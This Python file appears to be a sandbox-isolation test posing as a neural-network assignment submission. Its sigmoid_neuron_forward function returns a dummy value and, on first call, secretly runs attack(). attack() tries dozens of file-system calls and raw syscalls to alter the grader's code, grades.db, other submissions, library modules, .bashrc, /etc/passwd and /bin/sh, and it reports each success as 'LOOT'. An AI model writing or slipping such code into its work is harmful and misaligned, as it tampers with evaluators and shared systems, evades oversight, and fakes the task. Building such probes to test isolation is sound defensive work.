"""Changes modes, owners, times, attributes and contents of files that are not its own: the library, the worker's files, the class,
homes and shared folders; by path, descriptor, link and number."""

import ctypes
import os
import platform
import sys

import numpy

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def ways(path):
    def opened(flags=os.O_RDONLY):
        return os.open(path, flags)

    status = None
    try:
        status = os.stat(path)
    except OSError:
        pass
    mode = (status.st_mode if status else 0o644) & 0o7777
    yield "chmod", lambda: os.chmod(path, mode ^ 0o001)
    yield "fchmod", lambda: os.fchmod(opened(), mode ^ 0o001)
    yield "fchmodat", lambda: os.chmod(os.path.basename(path), mode, dir_fd=os.open(os.path.dirname(path), os.O_PATH))
    yield "through a descriptor's name", lambda: os.chmod(f"/proc/self/fd/{opened(os.O_PATH)}", mode ^ 0o001)
    yield "chown", lambda: os.chown(path, os.getuid(), os.getgid())
    yield "lchown", lambda: os.lchown(path, 12345, 12345)
    yield "utime", lambda: os.utime(path, (1, 1))
    yield "setxattr", lambda: os.setxattr(path, "user.hostile", b"1")
    yield "truncate", lambda: os.truncate(path, status.st_size)
    yield "open for writing", lambda: os.close(opened(os.O_WRONLY))
    yield "open to append", lambda: os.close(opened(os.O_WRONLY | os.O_APPEND))
    yield "allocate", lambda: os.posix_fallocate(opened(os.O_RDWR), 0, 1)
    yield "link", lambda: os.link(path, "@left@-link")
    yield "rename", lambda: os.rename(path, path + "@left@") or os.rename(path + "@left@", path)
    yield "unlink", lambda: os.unlink(path) if path.startswith(tuple("@canaries@".split(":"))) else os.unlink("")


def attack():
    worker = getattr(sys.modules.get("boxworker.wire"), "__file__", "/box/worker/wire.py")
    paths = [numpy.__file__, os.__file__, worker, "@home@/.bashrc", "@submissions@/a000_right.py", "@checkout@/grader/cli.py",
             "@out@/grades.db", *"@canaries@".split(":"), "/etc/passwd", "/bin/sh"]
    for path in paths:
        for name, way in ways(path):
            try:
                way()
            except BaseException:
                continue
            print("LOOT:", name, path)
    if platform.machine() == "x86_64":
        for path in paths:
            text = path.encode()
            for call in ((90, text, 0o777), (92, text, 0, 0), (94, text, 0, 0), (268, -100, text, 0o777), (452, -100, text, 0o777, 0),
                         (280, -100, text, None, 0), (235, text, None), (132, text, None), (188, text, b"user.x", b"1", 1, 0)):
                if libc.syscall(*call) == 0:
                    print("LOOT:", call[0], path)


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
